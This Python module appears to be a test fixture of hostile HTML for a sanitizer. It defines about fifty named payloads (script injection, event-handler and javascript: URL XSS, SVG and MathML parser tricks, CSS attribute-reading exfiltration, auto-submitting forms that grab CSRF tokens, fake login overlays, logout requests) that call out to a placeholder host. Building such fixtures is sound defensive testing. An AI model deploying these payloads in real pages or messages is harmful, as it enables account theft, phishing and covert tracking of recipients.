"""HTML that wants to run something or to be noticed. `{far}` is a host that must never hear of us."""

from __future__ import annotations

RAN = "top.document.title='ran';fetch('{far}/ran')"

HOSTILE = {
    "script": f"<script>{RAN}</script>",
    "script elsewhere": '<script src="{far}/a.js"></script><script type=module src="{far}/m.js"></script>',
    "handlers": f'<img src=x onerror="{RAN}"><body onload="{RAN}"><p onmouseover="{RAN}" onclick="{RAN}">hover</p>',
    "handlers of media": f'<video src=x onerror="{RAN}"></video><audio src=x onerror="{RAN}"></audio><details open ontoggle="{RAN}">x</details>',
    "handlers that start themselves": f'<input autofocus onfocus="{RAN}"><select autofocus onfocus="{RAN}"></select><marquee onstart="{RAN}">x</marquee>',
    "handlers of animation": f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{RAN}">x</p>',
    "javascript address": f'<a href="javascript:{RAN}">go</a><a href="&#106;ava\tscript:{RAN}">go</a><iframe src="javascript:{RAN}"></iframe>',
    "data address": "<a href=\"data:text/html,<script>fetch('{far}/data')</script>\">go</a><iframe src=\"data:text/html,<img src={far}/d.png>\"></iframe>",
    "vbscript and file": '<a href="vbscript:msgbox(1)">a</a><img src="file:///etc/passwd"><a href="file:///etc/passwd">b</a>',
    "svg script": f"<svg><script>{RAN}</script></svg><svg onload=\"{RAN}\"><animate onbegin=\"{RAN}\" attributeName=x dur=1s></svg>",
    "svg pictures": '<svg><image href="{far}/svg.png" xlink:href="{far}/x.png"/><use href="{far}/u.svg#a"/><feImage href="{far}/fe.png"/></svg>',
    "svg in data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><object data="{far}/o.svg"></object>',
    "svg foreign object": f'<svg><foreignObject><iframe srcdoc="<script>{RAN}</script>"></iframe></foreignObject></svg>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">',
    "math link": f'<math href="javascript:{RAN}">x</math><math><maction actiontype="statusline#{{far}}" xlink:href="javascript:{RAN}">x</maction></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>',
    "template": f"<template><script>{RAN}</script></template><template shadowrootmode=open><img src={{far}}/t.png></template>",
    "textarea and title": f'<textarea><img title="</textarea><img src=x onerror={RAN}>"></textarea><title><img src={{far}}/t.png></title>',
    "comment": f"<!--><img src=x onerror={RAN}>--><!-- --!><img src=x onerror={RAN}>",
    "cdata": f"<svg><![CDATA[</svg><img src=x onerror={RAN}>]]></svg><xmp><img src=x onerror={RAN}></xmp>",
    "broken tags": f'<<img src=x onerror={RAN}//><img/src="{{far}}/b.png"/onerror="{RAN}"><img """><script>{RAN}</script>">',
    "nul and blanks": f'<im\0g src=x onerror={RAN}><a href="java\0script:{RAN}">x</a><img src="\x01{{far}}/n.png">',
    "forms": '<form action="{far}/post" method=post><input name=a value=1><button>Send</button></form><button form=f formaction="{far}/f">x</button>',
    "form that sends itself": '<form id=f action="{far}/auto"><input autofocus onfocus="f.submit()"></form><isindex action="{far}/i">',
    "form around the desk": '</div></div></iframe><form action="{far}/steal"><input name=csrfmiddlewaretoken>',
    "refresh": '<meta http-equiv="refresh" content="0;url={far}/refresh"><meta http-equiv="Set-Cookie" content="a=b">',
    "base": '<base href="{far}/"><img src="relative.png"><a href="relative">x</a>',
    "policy by meta": '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url><img src="{far}/m.png">',
    "remote pictures": '<img src="{far}/1.png"><img src="//canary.example/2.png"><img src="http:\\\\canary.example\\3.png"><image src="{far}/4.png">',
    "more sources": '<img srcset="{far}/1.png 1x, {far}/2.png 2x" sizes=100vw><picture><source srcset="{far}/3.png"><img src=x></picture>',
    "old pictures": '<table background="{far}/b.png"><td background="{far}/c.png">x</table><body background="{far}/d.png"><img lowsrc="{far}/e.png" dynsrc="{far}/f.png">',
    "media": '<video src="{far}/v.mp4" poster="{far}/p.png" autoplay></video><audio src="{far}/a.mp3" autoplay></audio><track src="{far}/t.vtt">',
    "embeds": '<object data="{far}/o"></object><embed src="{far}/e"><applet code="{far}/a"></applet><frameset><frame src="{far}/f"></frameset>',
    "links that load": '<link rel=stylesheet href="{far}/s.css"><link rel=preload as=image href="{far}/p.png"><link rel=prefetch href="{far}/f"><link rel=dns-prefetch href="{far}"><link rel=icon href="{far}/i.ico">',
    "style sheet": "<style>@import '{far}/i.css'; body{background:url({far}/b.png)} @font-face{font-family:x;src:url({far}/f.woff)} p{font-family:x}</style><p>x</p>",
    "css in attributes": '<p style="background:url({far}/1.png)">a</p><p style="background-image:image-set(\'{far}/2.png\' 1x)">b</p><p style="list-style:url({far}/3.png);cursor:url({far}/4.cur),auto">c</p><p style="content:url({far}/5.png);border-image:url({far}/6.png) 30">d</p>',
    "css in disguise": '<p style="background:\\75\\72\\6c({far}/1.png)">a</p><p style="back/**/ground:u/**/rl({far}/2.png)">b</p><p style="--x:url({far}/3.png);background:var(--x)">c</p>',
    "css that reads": "<style>input[value^=a]{background:url({far}/a)} a[href*=token]{background:url({far}/t)}</style><input value=abc>",
    "css over the desk": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Log in again: <a href="{far}/login">here</a></div>',
    "css of old browsers": f'<p style="width:expression({RAN});behavior:url({{far}}/b.htc);-moz-binding:url({{far}}/x.xml#a)">x</p>',
    "frames": '<iframe src="{far}/frame"></iframe><iframe srcdoc="<img src={far}/s.png>"></iframe><iframe src="/admin/logout/"></iframe>',
    "alpine": f"<div x-data=\"{{a:1}}\" x-init=\"{RAN}\" @click=\"{RAN}\" :src=\"'{{far}}'\" x-html=\"'<img src={{far}}/x.png>'\" x-effect=\"{RAN}\">x</div>",
    "htmx": '<div hx-get="{far}/hx" hx-trigger="load" data-hx-get="{far}/hx2" data-hx-trigger="load" hx-on:load="x()">x</div><div hx-post="/admin/logout/" hx-trigger="load"></div>',
    "links of our own": '<a href="/admin/logout/">x</a><img src="/admin/logout/"><a href="//canary.example/">y</a><a ping="{far}/ping" href="{far}/ok">z</a>',
    "desk's own words": '<img data-remote="aHR0cDovL2NhbmFyeS5leGFtcGxlL3IucG5n"><button data-frame="{far}/f" data-pictures="{far}/p">As the sender laid it out</button><p class="d-quote" data-values="1">x</p>',
    "imagemap and area": f'<img src=x usemap="#m"><map name=m><area shape=rect coords="0,0,999,999" href="javascript:{RAN}"></map>',
    "custom element": f'<x-a is=x onclick="{RAN}"><slot name=x><portal src="{{far}}/p"></portal><fencedframe src="{{far}}/f"></fencedframe></x-a>',
    "event in data picture": f"<img src='data:image/png;base64,iVBORw0KGgo=\" onerror=\"{RAN}'><img src=data:text/html;base64,PHNjcmlwdD4= onerror={RAN}>",
    "spoofed close": f'</blockquote></body></html><script>{RAN}</script><plaintext><img src={{far}}/p.png>',
    "attribute breakout": f"<a title='\"><img src=x onerror={RAN}>' href='{{far}}/\"onmouseover=\"{RAN}'>x</a><img alt='\" src=\"{{far}}/alt.png'>",
}  # fmt: skip


def hostile(name: str, far: str) -> str:
    return f"<p>Dear team ({name})</p>" + HOSTILE[name].replace("{far}", far)
